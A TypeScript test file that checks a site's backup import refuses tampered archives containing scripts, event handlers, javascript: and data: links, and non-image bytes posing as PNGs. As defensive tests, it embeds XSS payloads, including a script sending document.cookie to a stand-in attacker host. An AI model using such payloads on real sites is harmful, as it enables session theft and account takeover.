// A tampered backup (issue 21): rich text with a script or an event handler, and files that are
// not the images the media library makes, are refused by name and nothing is restored.
import { createHash } from 'node:crypto';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import { ok, requests } from '../../../../tests/setup/api';
import { multipart } from '../../../../tests/setup/multipart';
import { createTestApp, staffSessions, type TestContext } from '../../../../tests/setup/test-app';
import type { MediaItem } from '../../../shared/schemas/media';
import { aboutUs, apps, blogPosts, media } from '../../db/schema';
import { BackupError, type BackupFile } from './backup.format';
import { archiveOf, exportArchive, readArchive } from '../../../../tests/setup/backup-archive';
import { importBackup } from './backup.repo';

let source: TestContext;
let target: TestContext;
let clean: BackupFile;
let image: MediaItem;

/** A deep copy of the clean file, changed by `edit`. */
const tampered = (edit: (tables: BackupFile['tables']) => void): BackupFile => {
  const copy = structuredClone(clean);
  edit(copy.tables);
  return copy;
};

/** New bytes for a media file, its row's size and SHA-256 changed to match (a careful tamperer's archive passes its checksums). */
function replaceBytes(row: Record<string, unknown>, bytes: Buffer) {
  row.bytes = bytes.toString('base64');
  row.size = bytes.length;
  row.sha256 = createHash('sha256').update(bytes).digest('hex');
}

async function expectRefused(file: BackupFile, ...messages: string[]) {
  const before = {
    apps: await target.database.db.select().from(apps),
    media: await target.database.db.select().from(media),
  };
  // The same refusal from an old JSON file and from an archive (checked as it streams).
  for (const input of [file, await archiveOf(file)]) {
    const attempt = importBackup(target.database.db, input, { force: true });
    await expect(attempt).rejects.toBeInstanceOf(BackupError);
    const message = await attempt.catch((error: Error) => error.message);
    expect(message).toContain('nothing was restored');
    for (const expected of messages) expect(message).toContain(expected);
  }
  // The database is as it was.
  expect(await target.database.db.select().from(apps)).toEqual(before.apps);
  expect(await target.database.db.select().from(media)).toEqual(before.media);
}

beforeAll(async () => {
  source = await createTestApp();
  target = await createTestApp();
  const { editor } = await staffSessions(source);
  const { send } = requests(
    () => source.app,
    () => editor,
  );
  const data = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#0ea5e9' } })
    .png()
    .toBuffer();
  const upload = multipart([{ name: 'file', filename: 'blue.png', data }]);
  const uploaded = await ok<MediaItem[]>(
    source.app.inject({
      method: 'POST',
      url: '/api/admin/media',
      headers: { ...upload.headers, cookie: editor },
      payload: upload.payload,
    }),
    201,
  );
  image = uploaded[0]!;
  const app = await ok<{ id: number }>(
    send('POST', '/api/apps', {
      title: 'Lantern',
      description: 'A calm game',
      icon: image.url,
      screenshots: [image.url],
    }),
    201,
  );
  await ok(
    send('POST', '/api/admin/blogs', {
      appId: app.id,
      title: 'Hello',
      content: `<h2>Hi</h2><p>A <a href="https://example.com" target="_blank">link</a>, <em>words</em> &amp; an image:</p><img src="${image.url}" alt="Blue">`,
    }),
    201,
  );
  await ok(
    send('PUT', '/api/about-us', {
      title: 'About',
      content: '<p style="text-align: center">Two of us.</p><ul><li>Games</li></ul>',
    }),
  );
  clean = (await readArchive(await exportArchive(source.database.db, new Date('2026-01-01T00:00:00Z')))).file;
  // What the target holds before every refused attempt.
  await importBackup(target.database.db, clean, { force: true });
});

describe('importing a backup', () => {
  it('restores a file the site wrote, rich text and images as they were', async () => {
    const { rows } = await importBackup(target.database.db, clean, { force: true });
    expect(rows.blog_posts).toBe(1);
    const [post] = await target.database.db.select().from(blogPosts);
    expect(post!.content).toBe(clean.tables.blog_posts![0]!.content);
  });

  it('refuses a post whose content holds a script, naming it', async () => {
    const file = tampered((t) => {
      t.blog_posts![0]!.content =
        '<p>Hi</p><script>document.location="https://evil.example/?"+document.cookie</script>';
    });
    await expectRefused(file, `blog_posts id ${String(clean.tables.blog_posts![0]!.id)}, content: holds markup`);
  });

  it('refuses an event handler and a javascript: link', async () => {
    const file = tampered((t) => {
      t.about_us![0]!.content = `<p>Hi</p><img src="${image.url}" onerror="alert(1)">`;
      t.apps![0]!.long_description = '<p><a href="javascript:alert(1)">Play</a></p>';
    });
    await expectRefused(file, 'about_us id', 'apps id', 'long_description');
  });

  it('refuses a javascript: or data: address in a link or an image field', async () => {
    const file = tampered((t) => {
      t.apps![0]!.web_app_link = ' JavaScript:alert(document.cookie)';
      t.apps![0]!.screenshots = ['data:text/html;base64,PHNjcmlwdD4='];
    });
    await expectRefused(
      file,
      'web_app_link: " JavaScript:alert',
      'screenshots: "data:text/html',
      'is not a web address',
    );
  });

  it('with cleanRichText stores the text as the sanitiser leaves it', async () => {
    const file = tampered((t) => {
      t.blog_posts![0]!.content = '<p>Hi</p><script>alert(1)</script><p onclick="x()">there</p>';
    });
    await importBackup(target.database.db, file, { force: true, cleanRichText: true });
    const [post] = await target.database.db.select().from(blogPosts);
    expect(post!.content).toBe('<p>Hi</p><p>there</p>');
    const [about] = await target.database.db.select().from(aboutUs);
    expect(about!.content).toBe(clean.tables.about_us![0]!.content);
  });

  it('refuses HTML stored under an image type', async () => {
    const file = tampered((t) => {
      replaceBytes(t.media_files![0]!, Buffer.from('<html><body><script>alert(1)</script></body></html>'));
    });
    await expectRefused(
      file,
      `media_files id ${String(clean.tables.media_files![0]!.id)}`,
      'its bytes are not an image',
    );
  });

  it('refuses an SVG with a script stored as a PNG', async () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>';
    const file = tampered((t) => {
      replaceBytes(t.media_files![0]!, Buffer.from(svg));
    });
    await expectRefused(file, 'its bytes are SVG, not image/png');
  });

  it('refuses a file outside /media/, or outside its own item’s folder', async () => {
    await expectRefused(
      tampered((t) => {
        t.media_files![0]!.path = '/assets/index.js';
      }),
      '"/assets/index.js"',
      "is not an uploaded image's address",
    );
    await expectRefused(
      tampered((t) => {
        t.media_files![0]!.path = '/media/0123456789abcdef/64x48.png';
      }),
      "not under its media item's folder",
    );
  });

  it('refuses a type that does not match the file', async () => {
    const file = tampered((t) => {
      t.media_files![0]!.type = 'text/html';
    });
    await expectRefused(file, 'its type "text/html" is not that of a .png file');
  });
});
